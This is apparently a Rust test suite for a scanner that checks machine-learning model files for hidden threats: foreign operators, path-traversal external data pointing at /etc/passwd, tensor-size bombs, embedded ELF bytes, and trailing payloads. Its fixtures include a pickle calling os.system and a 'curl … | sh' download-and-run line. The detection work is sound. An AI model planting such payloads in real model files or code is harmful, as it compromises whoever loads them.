use stance_core::fact::{AnomalyKind, EmbeddedKind, GapReason};

use super::assemble::{
    Builder, call, endless_loop, external, external_with, model, node, numbers, tensor,
};
use crate::testing::{artifact, artifact_of, gaps, report, survives_truncation};
use crate::unclaimed;

fn small() -> Vec<u8> {
    model(
        &[node("", "MatMul"), node("evil.ops", "RunShell")],
        &[
            tensor("w", &[4, 2], &[1; 32]),
            external("v", &[3], "../../etc/passwd"),
        ],
    )
}

#[test]
fn a_model_is_known_by_its_content_and_tells_what_it_holds() {
    let artifact = artifact("model.bin", &small());
    assert_eq!(artifact.framework.as_deref(), Some("pytorch"));
    assert_eq!((artifact.tensors, artifact.parameters), (Some(2), Some(11)));
    assert_eq!(artifact.metadata.get("opset").unwrap(), "17");
    assert_eq!(artifact.embedded.len(), 1);
    assert_eq!(artifact.embedded[0].kind, EmbeddedKind::OnnxCustomOperator);
    assert_eq!(artifact.embedded[0].name, "evil.ops::RunShell");
    assert_eq!(artifact.external.len(), 1);
    assert!(artifact.external[0].escapes);
}

#[test]
fn a_function_of_the_model_is_no_foreign_operator() {
    let function = Builder::default()
        .bytes(1, "Gelu")
        .bytes(10, "local")
        .bytes(7, node("evil.ops", "RunShell"));
    let bytes = Builder::default()
        .number(1, 8)
        .bytes(
            7,
            Builder::default()
                .bytes(1, node("local", "Gelu"))
                .bytes(2, "g"),
        )
        .bytes(25, function)
        .build();
    let artifact = artifact("m.onnx", &bytes);
    let names: Vec<&str> = artifact.embedded.iter().map(|e| &*e.name).collect();
    assert_eq!(names, ["evil.ops::RunShell"]);
}

#[test]
fn other_bytes_are_not_taken_for_a_model() {
    let mut random = Vec::new();
    let mut state = 1_u32;
    for _ in 0..200_000 {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        random.push((state >> 24) as u8);
    }
    for start in 0..20_000 {
        assert!(!super::recognise::is_model(
            &stance_read::Bytes(&random[start..start + 64]),
            64,
            false
        ));
    }
    for other in [
        &b""[..],
        b"\x08\x01",
        b"\x08\x01\x12\x03abc",
        b"\n\x05hello",
        b":\x02hi",
    ] {
        assert!(report("m.bin", other).facts.is_empty(), "{other:?}");
        assert!(
            !crate::testing::has_artifact(&report("m.onnx", other)),
            "{other:?}"
        );
    }
}

#[test]
fn graphs_nested_without_end_stop_at_a_limit() {
    let mut graph = Builder::default().bytes(1, node("evil.ops", "Deep"));
    for _ in 0..10_000 {
        let inner = node("", "If").bytes(5, Builder::default().bytes(6, graph));
        graph = Builder::default().bytes(1, inner);
    }
    let bytes = Builder::default().number(1, 8).bytes(7, graph).build();
    let report = report("m.onnx", &bytes);
    assert_eq!(gaps(&report), [GapReason::Malformed]);
}

#[test]
fn what_stands_before_a_break_is_kept() {
    let mut bytes = small();
    bytes.extend([0x0f, 0xff]);
    let report = report("m.onnx", &bytes);
    assert_eq!(gaps(&report), [GapReason::Malformed]);
    assert_eq!(artifact_of(&report).embedded.len(), 1);
}

#[test]
fn fields_that_nobody_knows_hide_nothing() {
    let mut bytes = Builder::default().bytes(100, "x").build();
    bytes.extend(small());
    assert_eq!(artifact("m.onnx", &bytes).embedded.len(), 1);
}

#[test]
fn no_cut_makes_it_panic() {
    survives_truncation("m.onnx", &small());
}

#[test]
fn sizes_that_no_machine_holds_are_told() {
    let kinds = |nodes: &[Builder], tensors: &[Builder]| -> Vec<AnomalyKind> {
        let artifact = artifact("m.onnx", &model(nodes, tensors));
        artifact
            .anomalies
            .iter()
            .map(|anomaly| anomaly.kind)
            .collect()
    };
    let huge = numbers("shape", &[1 << 20, 1 << 20, 8]);
    let small = numbers("shape", &[1, 512, 768]);
    for (node, bomb) in [
        (call("ConstantOfShape", &["shape"], "y"), true),
        (call("Expand", &["x", "shape"], "y"), true),
        (call("Tile", &["x", "shape"], "y"), true),
        (call("Reshape", &["x", "shape"], "y"), false),
    ] {
        let found = kinds(std::slice::from_ref(&node), std::slice::from_ref(&huge));
        assert_eq!(
            found,
            if bomb {
                vec![AnomalyKind::Bomb]
            } else {
                vec![]
            }
        );
        assert_eq!(kinds(&[node], std::slice::from_ref(&small)), []);
    }
    assert_eq!(kinds(&[endless_loop("Identity")], &[]), [AnomalyKind::Bomb]);
    assert_eq!(kinds(&[endless_loop("Not")], &[]), []);
}

#[test]
fn external_data_that_cannot_be_true_is_told() {
    for (key, value, lies) in [
        ("length", "12", false),
        ("offset", "4096", false),
        ("checksum", "abc", false),
        ("length", "13", true),
        ("offset", "-1", true),
        ("offset", "18446744073709551615", true),
    ] {
        let tensor = external_with("w", &[3], "w.bin", key, value);
        let artifact = artifact("m.onnx", &model(&[node("", "MatMul")], &[tensor]));
        assert_eq!(!artifact.anomalies.is_empty(), lies, "{key} {value}");
        assert!(!artifact.external[0].escapes);
    }
    let memory = external_with("w", &[3], "*/_ORT_MEM_ADDR_/*", "offset", "94000000000");
    let first = external_with("v", &[3], "w.bin", "location", "/etc/passwd");
    let artifact = artifact("m.onnx", &model(&[node("", "MatMul")], &[memory, first]));
    assert!(artifact.external.iter().all(|external| external.escapes));
}

#[test]
fn an_operator_that_onnx_never_had_needs_a_library() {
    let artifact = artifact("m.onnx", &model(&[node("", "Warp"), node("", "Gelu")], &[]));
    let names: Vec<&str> = artifact.embedded.iter().map(|found| &*found.name).collect();
    assert_eq!(names, ["ai.onnx::Warp"]);
}

#[test]
fn bytes_in_a_field_that_nobody_knows_are_told() {
    let mut bytes = small();
    bytes.extend(
        Builder::default()
            .bytes(90, [0x7f, b'E', b'L', b'F', 2, 1, 1].repeat(200))
            .build(),
    );
    let artifact = artifact("m.onnx", &bytes);
    assert_eq!(artifact.anomalies[0].kind, AnomalyKind::UnclaimedBytes);
}

/// Bytes as numbers of a field that is packed: in groups of seven bits.
fn packed(bytes: &[u8]) -> Vec<u8> {
    bytes
        .iter()
        .flat_map(|byte| match byte {
            0..=0x7f => vec![*byte],
            _ => vec![*byte, 1],
        })
        .collect()
}

#[test]
fn what_tensors_hold_is_seen_in_every_field_of_data() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0\0\0\0\0\0\0\0\0";
    let tensor = |dtype: u64| {
        Builder::default()
            .number(1, 4)
            .number(2, dtype)
            .bytes(8, b"w")
    };
    let one_by_one = elf
        .iter()
        .fold(tensor(2), |tensor, byte| tensor.number(5, u64::from(*byte)));
    for initializer in [
        tensor(1).bytes(9, elf),
        tensor(2).bytes(9, elf),
        tensor(1).bytes(4, elf),
        tensor(11).bytes(10, elf),
        tensor(2).bytes(5, packed(elf)),
        tensor(8).bytes(6, elf),
        one_by_one,
    ] {
        let found = artifact("m.onnx", &model(&[node("", "Relu")], &[initializer]));
        assert!(
            found
                .tensor_signs
                .iter()
                .any(|sign| sign.detail.contains("ELF")),
            "{:?}",
            found.tensor_signs
        );
    }
}

#[test]
fn what_follows_the_model_is_told() {
    let sound = model(&[node("", "Relu")], &[]);
    let pickle = stance_pickle::assemble::call("os", "system", "id");
    for tail in [
        &*pickle,
        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0",
        b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n",
    ] {
        for padding in [0_usize, 16] {
            let bytes = [&*sound, &vec![0xff; padding], tail].concat();
            let found = artifact("m.onnx", &bytes);
            let told = |anomaly: &stance_core::fact::Anomaly| {
                anomaly.kind == AnomalyKind::UnclaimedBytes
                    && [unclaimed::STARTS_AS, unclaimed::HOLD]
                        .iter()
                        .any(|words| anomaly.detail.contains(words))
            };
            assert!(
                found.anomalies.iter().any(told),
                "{padding}: {:?}",
                found.anomalies
            );
        }
    }
}
